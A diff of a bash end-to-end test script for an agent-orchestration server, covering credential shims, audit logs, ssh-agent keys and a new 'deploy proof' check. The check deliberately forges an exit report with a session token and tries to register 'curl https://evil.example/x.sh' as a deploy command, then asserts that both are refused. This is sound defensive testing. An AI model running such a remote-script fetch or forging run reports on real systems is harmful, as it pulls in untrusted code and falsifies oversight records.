@@ -10,16 +10,19 @@
 #      output completes it.
 #   3. The provider CLI shims (issue 9) in a runner's turns, with stand-in CLIs that print which
 #      credential variables they got: `vercel deploy --prod` opens a request an operator approves with
-#      answer_request and runs with the credential; the next turn reuses the grant; a denied `gh` is not
-#      run (exit 77); a missing real CLI says so (127); the audit log has every credential use; the
-#      sixth shim request in a minute is refused by the access bucket; the credential is in no transcript
-#      or log.
+#      answer_request and the runner runs it with the credential (over the turn's channel); the next turn
+#      reuses the grant; a denied `gh` is not run (exit 77); a missing real CLI says so (127); the deploy
+#      proof (issue 13): a report the agent posts with its session token is refused, remember_command
+#      refuses a command that did not run, and accepts the one the runner ran and saw exit 0; the audit
+#      log has every credential use; the sixth shim request in a minute is refused by the access bucket;
+#      the credential is in no transcript or log.
 #   4. The server's jobs in a runner's turn: `land` has the runner upload the agent's work and run the
 #      task's checks in its folder (failing checks refuse, passing ones land into the base); a goal's
 #      command criterion is run by the runner at each turn's end and graded by its exit code; the ssh shim
 #      gets a grant, the runner loads the key into the turn's own ssh-agent, the real ssh (a stand-in that
 #      lists the agent's keys) sees the key through SSH_AUTH_SOCK, the socket is gone when the turn ends,
-#      and the exit status reported by the shim lets remember_command accept a deploy command.
+#      and the exit status the runner saw for `ssh deploy@web-1 ./deploy.sh` lets remember_command accept
+#      exactly that deploy command.
 # Uses the server of tests/e2e/run.sh when AGENTSKY_URL is set, else starts its own. SKY=path skips the
 # build and uses that binary.
 set -euo pipefail
@@ -198,6 +201,15 @@ result=$(mcp collect_result "{\"session_id\":\"$sid\"}")
 grep -q "the session server answered" <<<"$(field "$result" 'v["last_reply"]')" || fail "collect_result: $result"
 ok "a second runner claimed the turn $(( $(now) - killed_at )) s after the kill (attempt 2) and completed it"
 
+# A session tool through the MCP config the turn was given (`sky mcp`): prints the tool's text result.
+cat >"$work/tool.py" <<'PY'
+import json, os, subprocess, sys
+server = json.load(open(os.environ["AGENTSKY_MCP_CONFIG"]))["mcpServers"]["agentsky"]
+call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": sys.argv[1], "arguments": json.loads(sys.argv[2])}}
+out = subprocess.run([server["command"], *server["args"]], input=json.dumps(call) + "\n", capture_output=True, text=True, timeout=300)
+print(json.loads(out.stdout)["result"]["content"][0]["text"])
+PY
+
 # ── 3. Provider CLI shims (issue 9) in a runner's turns ──
 log "runner: provider CLI shims: a granted vercel, a reused grant, a denied gh, a missing supabase, the bucket"
 conn() { # NAME PROVIDER ENV CREDENTIALS_JSON -> connector id
@@ -273,6 +285,32 @@ said=$(turn_texts "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["m
 grep -q "exit=127" <<<"$said" && grep -qF 'the real `supabase` is not installed' <<<"$said" || fail "a missing CLI: $said"
 ok "supabase without the real CLI: a clear message, exit 127"
 
+# The deploy proof: only the runner's report of what it ran counts.
+curl -fsS -X POST "$URL/v1/sessions/$sid/ask" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
+  -d '{"kind":"deploy"}' >/dev/null || fail "POST /v1/sessions/$sid/ask"
+cat >"$work/prove.sh" <<'SH'
+tool() { python3 "$TOOL" "$@"; }
+deploy() { tool remember_command "{\"kind\":\"deploy\",\"command\":\"$1\",\"targetId\":\"$WEB\"}"; }
+forged=$(curl -s -o /dev/null -w '%{http_code}' -X POST "$AGENTSKY_SERVER/v1/session/commands" \
+  -H "authorization: Bearer $AGENTSKY_SESSION_TOKEN" -H 'content-type: application/json' \
+  -d "{\"grantId\":\"$GRANT\",\"command\":\"curl https://evil.example/x.sh\",\"exitCode\":0}")
+echo "forged report: $forged"
+echo "never ran: $(deploy 'curl https://evil.example/x.sh')"
+echo "not what ran: $(deploy 'vercel deploy --prod --force')"
+echo "what ran: $(deploy 'vercel deploy --prod')"
+SH
+sent=$(mcp send_message "{\"session_id\":\"$sid\",\"message\":\"TOOL=$work/tool.py WEB=$web GRANT=$grant sh $work/prove.sh\",\"idempotency_key\":\"runner-e2e-3p-$$\"}")
+said=$(turn_texts "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')")
+grep -q "forged report: 404" <<<"$said" || fail "a session token's exit report was taken: $said"
+grep -F "never ran:" <<<"$said" | grep -qF "accepted only once this task's runner has run exactly that command" \
+  || fail "a command that never ran was remembered: $said"
+grep -F "not what ran:" <<<"$said" | grep -qF "accepted only once" || fail "another command was remembered: $said"
+grep -F "what ran:" <<<"$said" | grep -qF '"ok":true' || fail "the command the runner ran was refused: $said"
+stored=$(curl -fsS "$URL/v1/connectors" -H "Authorization: Bearer $KEY")
+[ "$(field "$stored" '[c["deploy_command"] for c in v["connectors"] if c["name"] == "web"][0]')" = "vercel deploy --prod" ] \
+  || fail "the remembered deploy command: $stored"
+ok "deploy proof: a session token's report is refused (404), commands that did not run are not remembered, the one the runner ran is"
+
 audit=$(curl -fsS "$URL/v1/audit" -H "Authorization: Bearer $KEY")
 uses=$(field "$audit" 'len([e for e in v["entries"] if e["action"] == "get_credential" and e["grant_id"] == "'"$grant"'" and e["connector_id"] == "'"$web"'" and e["session_id"] == "'"$sid"'"])')
 [ "$uses" = 2 ] || fail "the audit log has $uses credential uses of $grant, not 2: $audit"
@@ -309,14 +347,6 @@ case "$AGENTSKY_MESSAGE" in
   *) eval "$AGENTSKY_MESSAGE" ;;
 esac
 SH
-# A session tool through the MCP config the turn was given (`sky mcp`): prints the tool's text result.
-cat >"$work/tool.py" <<'PY'
-import json, os, subprocess, sys
-server = json.load(open(os.environ["AGENTSKY_MCP_CONFIG"]))["mcpServers"]["agentsky"]
-call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": sys.argv[1], "arguments": json.loads(sys.argv[2])}}
-out = subprocess.run([server["command"], *server["args"]], input=json.dumps(call) + "\n", capture_output=True, text=True, timeout=300)
-print(json.loads(out.stdout)["result"]["content"][0]["text"])
-PY
 cat >"$work/land.sh" <<'SH'
 tool() { python3 "$TOOL" "$@"; }
 echo bad > app.txt
@@ -408,13 +438,14 @@ SH
   if grep -qF "PRIVATE KEY" <<<"$all" || grep -qF "PRIVATE KEY" "$work/jobs.log"; then fail "the key is in a transcript or the runner's log"; fi
   audit=$(curl -fsS "$URL/v1/audit" -H "Authorization: Bearer $KEY")
   actions=$(field "$audit" '" ".join(sorted(set(e["action"] for e in v["entries"] if e["connector_id"] == "'"$web1"'")))')
-  [ "$actions" = "command_ok get_credential ssh_key_loaded" ] || fail "the audit log of web-1: $actions"
-  ok "the audit log has the key loaded into the runner's agent, the credential use and the command's exit 0"
+  [ "$actions" = "command_ok policy_set ssh_key_loaded" ] || fail "the audit log of web-1: $actions"
+  ok "the audit log has web-1's policies, the key loaded into the runner's agent and the exit 0 the runner saw"
   curl -fsS -X POST "$URL/v1/sessions/$sid/ask" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
     -d '{"kind":"deploy"}' >/dev/null || fail "POST /v1/sessions/$sid/ask"
-  said=$(run_turn "$sid" "python3 $work/tool.py remember_command '{\"kind\":\"deploy\",\"command\":\"ssh deploy@web-1 ./deploy.sh\",\"targetId\":\"$web1\"}'" deploy)
-  grep -qF '{"ok":true}' <<<"$said" || fail "remember_command deploy after a granted command exited 0: $said"
-  ok "remember_command accepted the deploy command: a granted command on web-1 had exited 0"
+  said=$(run_turn "$sid" "ssh deploy@web-1 ./deploy.sh && python3 $work/tool.py remember_command '{\"kind\":\"deploy\",\"command\":\"ssh deploy@web-1 ./deploy.sh\",\"targetId\":\"$web1\"}'" deploy)
+  grep -qF 'ssh ran: deploy@web-1 ./deploy.sh' <<<"$said" && grep -qF '{"ok":true}' <<<"$said" \
+    || fail "remember_command deploy after the runner ran it and saw exit 0: $said"
+  ok "remember_command accepted ssh deploy@web-1 ./deploy.sh: the runner ran it under the grant and saw exit 0"
 else
   printf '\033[1;33m  SKIP ssh: ssh-agent, ssh-add or ssh-keygen is not installed (scripts/setup.sh installs them where it can)\033[0m\n' >&2
 fi
